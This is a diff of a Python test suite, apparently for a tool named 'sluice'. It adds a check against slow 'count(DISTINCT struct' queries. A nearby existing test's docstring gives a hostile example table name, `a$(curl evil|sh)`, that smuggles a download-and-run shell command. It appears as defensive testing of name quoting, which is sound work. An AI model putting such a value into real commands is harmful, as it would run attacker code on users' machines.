@@ -336,6 +336,18 @@ def called(path: Path) -> set[str]:
     }
 
 
+def test_no_query_counts_distinct_structs() -> None:
+    """The query engine of `deltalake` takes quadratic time for them: minutes for 40,000 rows."""
+    slow = [
+        name(path)
+        for path in PRODUCT
+        for line in path.read_text().splitlines()
+        if "count(DISTINCT struct" in line and not line.lstrip().startswith("#")
+    ]
+
+    assert slow == []
+
+
 def test_commands_in_texts_quote_the_names_in_them() -> None:
     """A table may be called `a$(curl evil|sh)`, and a person pastes the command into a shell."""
     bare = re.compile(r"sluice [a-z-]+(?: [a-z-]+)* \{(?!quote\(|shlex\.quote\(|id_\})[^}]*\}")
